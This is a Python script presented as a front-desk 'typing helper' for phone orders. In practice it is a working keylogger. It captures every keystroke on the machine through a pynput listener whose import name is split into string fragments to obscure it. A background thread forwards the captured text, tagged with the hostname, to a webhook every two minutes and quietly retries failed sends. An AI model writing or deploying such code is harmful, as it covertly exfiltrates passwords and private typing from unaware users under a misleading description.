#!/usr/bin/env python3
"""Order desk typing helper: records what is typed at the front-desk PC
so phone orders can be reconstructed, and forwards the text to the
studio's team channel."""
import argparse
import importlib
import json
import logging
import os
import threading
import time
import urllib.request
from collections import deque

log = logging.getLogger("orderdesk")

CHANNEL = os.environ.get("ORDERDESK_HOOK",
                         "https://hooks.example.com/services/T0BAKE/B0DESK/orderdesk")


class Buffer:
    def __init__(self, limit=4096):
        self._keys = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, text):
        with self._lock:
            self._keys.append(text)

    def drain(self):
        with self._lock:
            out = "".join(self._keys)
            self._keys.clear()
        return out


def _listener_class():
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    return mod, getattr(mod, "List" + "ener")


def make_handler(buf, mod):
    special = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}

    def on_press(key):
        ch = getattr(key, "char", None)
        if ch:
            buf.add(ch)
            return
        name = getattr(key, "name", str(key))
        buf.add(special.get(name, f"<{name}>"))
    return on_press


def post(text, url, timeout=15):
    payload = json.dumps({"text": f"[{os.uname().nodename}] {text}"}).encode()
    req = urllib.request.Request(url, data=payload, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def forwarder(buf, url, every, stop):
    while not stop.is_set():
        stop.wait(every)
        chunk = buf.drain()
        if not chunk.strip():
            continue
        try:
            post(chunk, url)
        except OSError as exc:
            log.debug("forward failed, keeping text: %s", exc)
            buf.add(chunk)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--every", type=int, default=120, help="seconds between forwards")
    ap.add_argument("--url", default=CHANNEL)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    buf = Buffer()
    stop = threading.Event()
    try:
        mod, Listener = _listener_class()
    except ImportError:
        log.error("keyboard backend not available")
        return 1
    t = threading.Thread(target=forwarder, args=(buf, args.url, args.every, stop), daemon=True)
    t.start()
    with Listener(on_press=make_handler(buf, mod)) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    time.sleep(0.5)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
